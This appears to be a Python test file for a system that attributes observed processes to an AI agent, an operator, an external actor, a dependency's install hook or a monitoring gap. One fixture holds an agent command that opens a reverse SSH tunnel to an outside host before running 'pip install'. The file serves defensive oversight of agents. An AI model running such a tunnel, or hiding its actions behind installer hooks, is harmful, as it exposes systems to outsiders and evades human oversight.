"""Five ways it may have come about: what speaks for each, what against, and which is the likeliest."""

from typing import Any

from apps.attribution.case import Case
from apps.attribution.conclude import conclude
from apps.attribution.hypotheses import Hypothesis, Told, weigh
from tests.attribution.test_matchers import PARENT, call, case, kin


def weighed(*made: Case) -> dict[str, Hypothesis]:
    found = []
    for one in made:
        done = conclude(one)
        found.append(Told(done.origin, done.strength, done.basis, done.missing, bool(one.line)))
    return {one.origin: one for one in weigh(found)}


def test_five_are_weighed_and_the_strongest_comes_first() -> None:
    found = weighed(case(kin(traceparent=PARENT), calls=(call(1),), clock_error_ms=3.0))
    assert set(found) == {"model", "operator", "external", "dependency", "monitoring"}
    assert next(iter(found)) == "model"
    assert found["model"].strength >= 97
    assert any("sign-in" in said for said in found["operator"].against)
    assert found["monitoring"].strength <= 3


def test_nothing_looked_at_weighs_nothing() -> None:
    assert weigh([]) == []


def test_operator_who_signed_in_beats_nearness_in_time() -> None:
    found = weighed(case(kin(10), kin(8, ("sshd",)), calls=(call(1),)))
    assert next(iter(found)) == "operator"
    assert found["model"].strength < found["operator"].strength
    assert any("inbound session" in said for said in found["operator"].supports)
    assert any("inbound session" in said for said in found["model"].against)


def test_package_is_not_told_from_the_agent_by_marks_that_it_inherits() -> None:
    line = (kin(12), kin(11, ("sh", "postinstall"), traceparent=PARENT), kin(10, ("npm", "install", "x")))
    asked = call(1, "npm install x")
    made = conclude(case(*line, calls=(asked,)))
    assert (made.origin, made.call) == ("dependency", asked)
    found = weighed(case(*line, calls=(asked,)))
    assert next(iter(found)) == "dependency"
    assert found["model"].strength < found["dependency"].strength


def test_agent_who_wrote_what_the_installer_starts_is_not_hidden_by_it() -> None:
    line = (kin(12), kin(10, ("pip", "install", ".")))
    asked = call(1, "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7; pip install .")
    made = conclude(case(*line, calls=(asked,)))
    assert made.origin == "model"
    assert {part["origin"] for part in made.basis} >= {"model", "dependency"}


def test_what_could_not_be_seen_speaks_for_a_monitoring_error() -> None:
    found = weighed(case(blind=("The host's sensor of processes was not working.",)))
    assert next(iter(found)) == "monitoring"
    assert "The host's sensor of processes was not working." in found["monitoring"].supports
    assert found["model"].against


def test_rows_from_before_origins_were_stored_are_read_by_their_side() -> None:
    basis: list[Any] = [
        {"matcher": "command", "strength": 82, "says": "its words", "against": False},
        {"matcher": "session", "strength": 60, "says": "signed in", "against": True},
        "nonsense",
    ]
    found = {one.origin: one for one in weigh([Told("operator", 60, basis, ["gap"], True)])}
    assert found["model"].supports == ["its words"]
    assert found["operator"].supports == ["signed in"]
    assert found["model"].strength < found["operator"].strength
